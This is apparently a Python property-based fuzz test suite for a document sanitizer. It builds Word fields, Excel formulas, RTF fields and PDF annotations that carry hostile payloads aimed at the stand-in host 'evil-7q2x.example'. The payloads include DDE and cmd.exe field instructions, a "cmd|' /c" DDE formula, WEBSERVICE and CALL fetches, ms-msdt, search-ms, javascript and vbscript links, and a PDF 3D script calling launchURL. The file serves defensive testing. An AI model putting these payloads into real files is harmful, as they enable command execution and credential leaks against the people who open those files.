# ruff: noqa: E501 - XML and RTF literals read better on one line
"""Structured fuzzing of the document disarmers (hypothesis): Word fields written every way
(one run, split at random points, simple, nested, deleted, keyword case and escapes; in the
document, a header or the glossary; Strict or Transitional), Excel formulas that fetch or
call (prefixes, case, spaces, places), links of disallowed schemes in PDFs (typed or untyped
annotations, remote threads, 3D scripts) and payloads as OOXML parts.

Every hostile item carries a marker unique to the example; the invariant is the same for all:
the sanitizer ends in ``sanitized`` or ``removed``, and no marker is anywhere in what it
delivers (every zip member inflated, the PDF rewritten as plain-text QDF)."""

from __future__ import annotations

import io
import zipfile

import pikepdf
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pikepdf import Array, Dictionary, Name, String

from sanitizers.cdr.base import CdrContext, CdrOutcome
from sanitizers.cdr.ooxml import OoxmlSanitizer
from sanitizers.cdr.pdf import PdfSanitizer
from sanitizers.cdr.rtf import RtfSanitizer
from sanitizers.cdr.settings import CdrPolicy
from sanitizers.vocabulary import Action
from tests.sanitizers.cdr import office_fixtures as F
from tests.sanitizers.cdr.test_fields import docx_with_field, to_strict
from tests.sanitizers.cdr.test_ooxml_payloads import xlsx

MARKER = "evil-7q2x.example"
CTX = CdrContext(policy=CdrPolicy())
FUZZ = settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)

field_keywords = st.sampled_from(
    [
        "DDEAUTO",
        "DDE",
        "INCLUDEPICTURE",
        "INCLUDETEXT",
        "INCLUDE",
        "LINK",
        "IMPORT",
        "RD",
        "DATABASE",
    ]
)
targets = st.sampled_from(
    [
        f"\\\\\\\\{MARKER}\\\\share\\\\x",
        f"http://{MARKER}/x.png",
        f"file:///\\\\{MARKER}\\\\s\\\\x",
        f"c:\\\\windows\\\\system32\\\\cmd.exe /k {MARKER}",
    ]
)
unsafe_links = st.sampled_from(
    [
        f"javascript:location='//{MARKER}'",
        f"file://{MARKER}/share/x.exe",
        f"\\\\{MARKER}\\share\\x.exe",
        f"ms-msdt:/id PCWDiagnostic /param {MARKER}",
        f"search-ms:query=x&crumb=location:\\\\{MARKER}\\s",
        f"vbscript:{MARKER}",
    ]
)


def _case(draw: st.DrawFn, word: str) -> str:
    flips = draw(st.lists(st.booleans(), min_size=len(word), max_size=len(word)))
    return "".join(c.lower() if flip else c for c, flip in zip(word, flips, strict=True))


def _esc(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")


@st.composite
def word_instruction(draw: st.DrawFn) -> str:
    if draw(st.booleans()):
        return f'{_case(draw, draw(field_keywords))} "{draw(targets)}"'
    return f'{_case(draw, "HYPERLINK")} "{draw(unsafe_links)}"'


@st.composite
def word_field(draw: st.DrawFn) -> str:
    instruction = draw(word_instruction())
    leading = draw(st.sampled_from(["", " ", "  "]))
    writing = draw(st.sampled_from(["simple", "runs", "one-run", "nested"]))
    if writing == "simple":
        return f'<w:p><w:fldSimple w:instr="{_esc(leading + instruction)}"><w:r><w:t>shown</w:t></w:r></w:fldSimple></w:p>'
    text = leading + instruction
    cuts = sorted(set(draw(st.lists(st.integers(1, max(1, len(text) - 1)), max_size=5))))
    pieces = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True) if a < b]
    tag = draw(st.sampled_from(["w:instrText", "w:delInstrText"]))
    instr = "".join(f'<w:r><{tag} xml:space="preserve">{_esc(p)}</{tag}></w:r>' for p in pieces)
    if writing == "one-run":
        inner = "".join(f'<{tag} xml:space="preserve">{_esc(p)}</{tag}>' for p in pieces)
        return (
            f'<w:p><w:r><w:fldChar w:fldCharType="begin"/>{inner}'
            '<w:fldChar w:fldCharType="separate"/><w:t>shown</w:t><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        )
    field = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + instr
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )  # fmt: skip
    if writing == "nested":  # inside the result of an ordinary field
        field = (
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> REF x </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r>' + field
            + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        )  # fmt: skip
    return f"<w:p>{field}</w:p>"


def assert_no_marker(outcome: CdrOutcome, everything: bytes) -> None:
    assert outcome.action in (Action.SANITIZED, Action.REMOVED), outcome
    assert MARKER.encode() not in everything


def members(data: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return b"".join(archive.read(name) for name in archive.namelist())


@FUZZ
@given(
    fields=st.lists(word_field(), min_size=1, max_size=3),
    where=st.sampled_from(["document", "header", "footer", "footnotes", "glossary"]),
    strict=st.booleans(),
)
def test_word_fields_never_keep_a_marker(fields: list[str], where: str, strict: bool) -> None:
    data = docx_with_field("".join(fields), where)
    if strict:
        data = to_strict(data)
    outcome = OoxmlSanitizer().run(data, "a.docx", CTX)
    assert outcome.action == Action.SANITIZED, outcome
    assert outcome.data is not None
    assert_no_marker(outcome, members(outcome.data))
    assert F.BENIGN.encode() in members(outcome.data)


functions = st.sampled_from(
    ["WEBSERVICE", "FILTERXML", "IMAGE", "RTD", "CALL", "REGISTER", "REGISTER.ID", "EXEC"]
)
prefixes = st.sampled_from(["", "_xlfn.", "_xlfn._xlws.", "_xll."])


@st.composite
def formula(draw: st.DrawFn) -> str:
    choice = draw(st.integers(0, 3))
    if choice == 0:
        name = _case(draw, draw(functions))
        space = draw(st.sampled_from(["", " "]))
        return f'{draw(prefixes)}{name}{space}("http://{MARKER}/")'
    if choice == 1:
        return f"cmd|' /c {MARKER}'!A0"
    if choice == 2:
        return f"'\\\\{MARKER}\\share\\[book.xlsx]Sheet1'!A1"
    link = draw(unsafe_links).replace("&", "&amp;").replace("<", "&lt;")
    return f'{_case(draw, "HYPERLINK")}("{link}","x")'


@FUZZ
@given(
    formulas=st.lists(formula(), min_size=1, max_size=3),
    where=st.sampled_from(["cell", "validation", "name"]),
    strict=st.booleans(),
)
def test_formulas_never_keep_a_marker(formulas: list[str], where: str, strict: bool) -> None:
    data = xlsx(formulas, where)
    if strict:
        data = to_strict(data)
    outcome = OoxmlSanitizer().run(data, "a.xlsx", CTX)
    assert outcome.action == Action.SANITIZED, outcome
    assert outcome.data is not None
    assert_no_marker(outcome, members(outcome.data))


def _rtf_escape(draw: st.DrawFn, text: str) -> str:
    out = []
    for char in text:
        how = draw(st.integers(0, 3))
        if how == 0 or not char.isalpha():
            out.append(char)
        elif how == 1:
            out.append(f"\\'{ord(char):02x}")
        elif how == 2:
            out.append(f"\\u{ord(char)}?")
        else:
            out.append(char + "}{")  # a group boundary inside the keyword
    return "".join(out)


@FUZZ
@given(data=st.data())
def test_rtf_fields_never_keep_a_marker(data: st.DataObject) -> None:
    keyword = _case(data.draw, data.draw(field_keywords))
    written = _rtf_escape(data.draw, keyword)
    rtf = (
        "{\\rtf1\\ansi benign\\par {\\field{\\*\\fldinst {" + written + " \\\\\\\\"
        + MARKER + "\\\\\\\\x}}{\\fldrslt {shown}}}\\par after}"
    ).encode("latin-1")  # fmt: skip
    outcome = RtfSanitizer().run(rtf, "a.rtf", CTX)
    assert outcome.action == Action.SANITIZED, outcome
    assert outcome.data is not None
    assert_no_marker(outcome, outcome.data)
    assert b"shown" in outcome.data


@st.composite
def pdf_hostile(draw: st.DrawFn) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    items = []
    for _ in range(draw(st.integers(1, 3))):
        choice = draw(st.integers(0, 2))
        if choice == 0:
            annot = Dictionary(
                Subtype=Name.Link,
                Rect=[0, 0, 9, 9],
                A=Dictionary(S=Name.URI, URI=String(draw(unsafe_links))),
            )
        elif choice == 1:
            subtype = draw(st.sampled_from(["/Movie", "/RichMedia", "/Screen", "/Sound", "/3D"]))
            annot = Dictionary(Subtype=Name(subtype), Rect=[0, 0, 9, 9])
            annot.Contents = String(MARKER)
            if subtype == "/3D":
                stream = pdf.make_stream(b"U3D")
                stream.OnInstantiate = pdf.make_stream(f"host.launchURL('{MARKER}')".encode())
                annot[Name("/3DD")] = stream
        else:
            annot = Dictionary(
                Subtype=Name.Link,
                Rect=[0, 0, 9, 9],
                A=Dictionary(S=Name("/Thread"), D=0, F=String(f"\\\\{MARKER}\\t.pdf")),
            )
        kind = draw(st.sampled_from([None, "/Annot", "/XObject", "/Bogus"]))  # optional, may lie
        if kind is not None:
            annot.Type = Name(kind)
        items.append(pdf.make_indirect(annot))
    pdf.pages[0].obj.Annots = Array(items)
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


@FUZZ
@given(data=pdf_hostile())
def test_pdf_links_and_annotations_never_keep_a_marker(data: bytes) -> None:
    outcome = PdfSanitizer().run(data, "a.pdf", CTX)
    assert outcome.action == Action.SANITIZED, outcome
    assert outcome.data is not None
    with pikepdf.open(io.BytesIO(outcome.data)) as pdf:
        out = io.BytesIO()
        pdf.save(
            out,
            qdf=True,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
            stream_decode_level=pikepdf.StreamDecodeLevel.all,
        )
    assert_no_marker(outcome, out.getvalue())
